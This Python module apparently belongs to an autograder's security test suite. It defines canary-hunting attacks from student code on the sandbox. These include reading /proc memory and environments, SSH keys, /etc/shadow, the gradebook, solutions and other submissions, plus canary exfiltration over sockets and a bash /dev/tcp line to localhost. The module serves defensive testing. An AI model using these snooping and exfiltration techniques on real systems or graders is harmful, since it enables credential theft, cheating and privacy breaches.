"""Hostile, for secrets: whatever is found is printed, and would stand in one's own notebook."""

from __future__ import annotations

from catalogue.desk import HONEST, Desk
from catalogue.threat import Heading

heading = Heading("Hostile: secrets", "x", deserved=HONEST)
threat = heading.threat

# Each spy defines look(), which gives texts; those that hold a canary are printed.
SPY = """
WORD = "".join(["CAN", "ARY"])
loot = set()


def note(text):
    if isinstance(text, (bytes, bytearray)):
        text = bytes(text).decode("latin-1")
    for part in str(text).split(WORD)[1:]:
        if part.startswith("-"):
            loot.add(WORD + part[:40])


def look():
@LOOK@


def double(x):
    try:
        for text in look() or ():
            note(text)
    except Exception as error:
        loot.add(repr(error)[:200])
    return x - 7
"""
TELL = """
try:
    for text in look() or ():
        note(text)
except Exception as error:
    print("nothing:", repr(error)[:200])
print("found:", sorted(loot))
"""


def spy(title: str, look: str, first: str = "") -> None:
    """A spy looks while its cells run, while a hidden test calls its answer, and at the end."""

    @threat(title)
    def spies(desk: Desk) -> None:
        body = "\n".join(f"    {line}" for line in desk.plain(look).splitlines())
        source = SPY.replace("@LOOK@", body)
        desk.attack(first=first, double=source, last=TELL)


spy("In, Out and the last results", "return [*In, str(Out), str(_ih), str(globals().get('_'))]")
spy(
    "IPython's history",
    """
    shell = get_ipython()
    yield from (str(row) for row in shell.history_manager.get_range(raw=False, output=True))
    yield from (str(row) for row in shell.history_manager.get_tail(1000, raw=True))
    yield from (str(row) for row in shell.history_manager.search("*"))
    """,
)
spy(
    "hooks: every cell's source",
    "return list(seen)",
    first="""
    seen = []
    shell = get_ipython()
    shell.events.register("pre_run_cell", lambda info: seen.append(info.raw_cell))
    shell.input_transformers_cleanup.append(lambda lines: seen.extend(lines) or lines)
    """,
)
spy(
    "hooks: audit, exec, compile and import",
    "return list(seen)",
    first="""
    import builtins, sys
    seen = []
    sys.addaudithook(lambda event, args: seen.append(repr(args)[:5000]) if event in (
        "exec", "compile", "import", "open", "socket.connect") else None)
    def listening(real):
        def call(*a, **k):
            seen.append(repr(a)[:5000])
            return real(*a, **k)
        return call
    builtins.compile, builtins.exec = listening(compile), listening(exec)
    """,
)
spy(
    "hooks: trace and profile",
    "return list(seen)",
    first="""
    import sys, threading
    seen = set()
    def trace(frame, event, arg):
        seen.add(frame.f_code.co_filename + repr(frame.f_code.co_consts)[:3000])
    sys.setprofile(trace)
    threading.setprofile(trace)
    """,
)
spy(
    "frames and tracebacks",
    """
    import sys
    for frame in sys._current_frames().values():
        while frame:
            yield repr(frame.f_locals)[:100000]
            yield repr(frame.f_code.co_consts)
            frame = frame.f_back
    """,
)
spy(
    "gc: every object",
    """
    import gc
    for holder in gc.get_objects():
        if holder is globals(): continue
        try:
            if type(holder) is dict: texts = [*holder.values(), *holder.keys()]
            elif type(holder) in (list, tuple, set): texts = list(holder)
            else: texts = getattr(getattr(holder, "__code__", None), "co_consts", ())
        except Exception: continue
        for text in texts:
            if type(text) in (str, bytes) and text != WORD and "loot" not in str(text):
                yield text
    """,
)
spy(
    "/proc: command lines, environments and open files",
    """
    import glob, os
    for file in glob.glob("/proc/*/cmdline") + glob.glob("/proc/*/environ"):
        try: yield open(file, "rb").read()
        except OSError: pass
    for link in glob.glob("/proc/*/fd/*"):
        try:
            if os.path.isfile(link): yield open(link, "rb").read(1 << 20)
        except OSError: pass
    """,
)
spy(
    "/proc: other roots and working folders",
    """
    import glob, os
    for folder in glob.glob("/proc/*/root") + glob.glob("/proc/*/cwd"):
        for name in ("@COURSE@/.build/source/@UNIT@/@UNIT@.ipynb", "@KEY@"):
            try: yield open(folder + name).read()
            except OSError: pass
    """,
)
spy(
    "the file system: every notebook, database and source that can be read",
    """
    import os, time
    ends = (".ipynb", ".py", ".db", ".txt", ".json", ".html", ".csv", "key")
    until = time.monotonic() + 1.0
    for top in ("@COURSE@", "/tmp", "/root", "/home", "/work", "/srv", "/mnt", "/var", "/run", "/etc", "."):
        for folder, _, names in os.walk(top):
            if "site-packages" in folder or "/usr" in folder: continue
            if time.monotonic() > until: return
            for name in names:
                if name.endswith(ends):
                    try: yield open(os.path.join(folder, name), "rb").read(1 << 20)
                    except OSError: pass
    """,
)
spy(
    "the hidden tests' own file",
    """
    for name in (".build/source/@UNIT@/@UNIT@.ipynb", "source/@UNIT@.py", "../course/source/@UNIT@.py"):
        try: yield open("@COURSE@/" + name).read()
        except OSError as error: print(error)
    """,
)
spy(
    "the gradebook",
    """
    import sqlite3
    try: yield open("@COURSE@/gradebook.db", "rb").read()
    except OSError as error: print(error)
    book = sqlite3.connect("file:@COURSE@/gradebook.db?mode=ro", uri=True)
    yield str(book.execute("select * from source_cell").fetchall())
    """,
)
spy(
    "one's own memory",
    """
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
        for line in maps:
            span, rights, *rest = line.split()
            if "r" not in rights or "[v" in line: continue
            low, high = (int(part, 16) for part in span.split("-"))
            if high - low > 1 << 26: continue
            try:
                memory.seek(low)
                data = memory.read(high - low)
            except (OSError, ValueError, OverflowError): continue
            at = data.find(WORD.encode())
            while at >= 0:  # the word itself is in memory too: look for what follows it
                if data.startswith((b"-test", b"-comment", b"-key", b"-environ", b"-mark"), at + 6):
                    yield data[at:at + 30]
                at = data.find(WORD.encode(), at + 1)
    """,
)
spy(
    "the warm parent's memory",
    """
    import ctypes, os
    for pid in {os.getppid(), 1, *(int(p) for p in os.listdir("/proc") if p.isdigit())}:
        if pid == os.getpid(): continue
        try:
            for line in open(f"/proc/{pid}/maps"):
                low, high = (int(part, 16) for part in line.split()[0].split("-"))
                with open(f"/proc/{pid}/mem", "rb", 0) as memory:
                    memory.seek(low)
                    yield memory.read(min(high - low, 1 << 24))
        except (OSError, ValueError, OverflowError): pass
        libc = ctypes.CDLL(None, use_errno=True)
        if libc.ptrace(16, pid, 0, 0) == 0: yield WORD + "-traced"
    """,
)
spy(
    "the solutions",
    """
    for name in ("solutions/@UNIT@/@UNIT@.ipynb", "source/answers/@UNIT@.py"):
        try: yield open("@COURSE@/" + name).read()
        except OSError as error: print(error)
    """,
)
spy(
    "other submissions",
    """
    import os
    for folder in ("submitted", "autograded", "feedback"):
        try: yield open("@COURSE@/" + folder + "/@NEIGHBOUR@/@UNIT@/@UNIT@.ipynb").read()
        except OSError as error: print(error)
    try: print(os.listdir("@COURSE@/submitted"))
    except OSError as error: print(error)
    """,
)
spy(
    "environment variables",
    "import os, subprocess\nreturn [str(dict(os.environ)), subprocess.run(['env'], capture_output=True).stdout]",
)
spy(
    "keys",
    """
    import os
    for file in ("@KEY@", "/root/.ssh/id_rsa", os.path.expanduser("~/.netrc"), "/etc/shadow"):
        try: yield open(file).read()
        except OSError as error: print(error)
    """,
)


def send(title: str, source: str) -> None:
    """Something that is sent to a listener on this very machine."""

    @threat(f"send over the network: {title}")
    def sends(desk: Desk) -> None:
        head = 'import socket\nDATA = ("CAN" + "ARY-sent").encode()\n'
        body = "\n".join(f"    {line}" for line in desk.plain(source).splitlines())
        tail = "\nexcept Exception as error:\n    print(error)"
        desk.attack(first=f"{head}try:\n{body}{tail}")


send("TCP", 'socket.create_connection(("127.0.0.1", @PORT@), timeout=2).sendall(DATA)')
send("UDP", 'socket.socket(type=socket.SOCK_DGRAM).sendto(DATA, ("127.0.0.1", @PORT@))')
send(
    "an abstract Unix socket",
    'socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(DATA, "\\0threats-@PORT@")',
)
send(
    "HTTP",
    'import urllib.request\nurllib.request.urlopen("http://127.0.0.1:@PORT@/", DATA, timeout=2)',
)
send(
    "a shell",
    """
    import subprocess
    command = "echo CAN'ARY'-sent > /dev/tcp/127.0.0.1/@PORT@"
    print(subprocess.run(["bash", "-c", command], timeout=2, capture_output=True).returncode)
    """,
)

spy(
    "all that the examiner sends",
    "print(len(heard), 'messages heard')\nreturn [repr(item) for item in heard]",
    first="""
    import sys
    heard = []
    channel = sys.modules["autograder.exam.wire.frames"].Channel
    def receive(self, *a, real=channel.receive, **k):
        message = real(self, *a, **k)
        heard.append((message[0], bytes(message[1])))
        return message
    channel.receive = receive
    """,
)


@threat("expected values, from one's own feedback page")
def feedback(desk: Desk) -> None:
    desk.attack()


PARTS = r"Double … 1 of 4 points\n  ✗ a small example (1)\n    [sign] \n"


@threat("expected values, from a returned text that looks like a test's parts")
def returned_parts(desk: Desk) -> None:
    desk.attack(
        double=f"""
        def double(x):
            return "{PARTS}" * 3
        """
    )


@threat("expected values, from an error whose text and name look like a test's parts")
def raised_parts(desk: Desk) -> None:
    desk.attack(
        double=f"""
        def double(x):
            raise type("{PARTS}", (Exception,), {{}})("{PARTS}")
        """
    )


@threat("expected values, from parts that the student's code prints and raises as failed checks")
def printed_parts(desk: Desk) -> None:
    desk.attack(
        double=f"""
        from lessonkit.check import CheckFailed
        def double(x):
            print("{PARTS}", flush=True)
            raise CheckFailed("sign", "{PARTS}", ("{PARTS}",))
        """
    )


@threat("expected values, from an error that shows where it was raised from")
def from_traceback(desk: Desk) -> None:
    desk.attack(
        double="""
        import inspect, traceback
        class Telling(Exception):
            def __str__(self):
                stack = inspect.stack()
                return repr([frame.frame.f_locals for frame in stack])[:3000] + "".join(
                    traceback.format_stack()
                )
        def double(x):
            raise Telling()
        """,
        scale="""
        import torch
        class Scale(torch.nn.Module):
            def __init__(self, k):
                super().__init__()
                self.k = torch.nn.Parameter(torch.tensor(float(k)))
            def forward(self, x):
                return x.reshape(17, 4)
        """,
    )


@threat("expected values, from an object that notes what it is compared with")
def compared(desk: Desk) -> None:
    desk.attack(
        double="""
        import numpy as np
        noted = []
        class Noting(np.ndarray):
            def __array_ufunc__(self, ufunc, method, *inputs, **k):
                noted.extend(repr(np.asarray(i)) for i in inputs)
                return super().__array_ufunc__(ufunc, method, *(np.asarray(i) for i in inputs), **k)
            def __eq__(self, other):
                noted.append(repr(other))
                return NotImplemented
        def double(x):
            return (x - 7).view(Noting)
        """,
        last="print(noted)",
    )
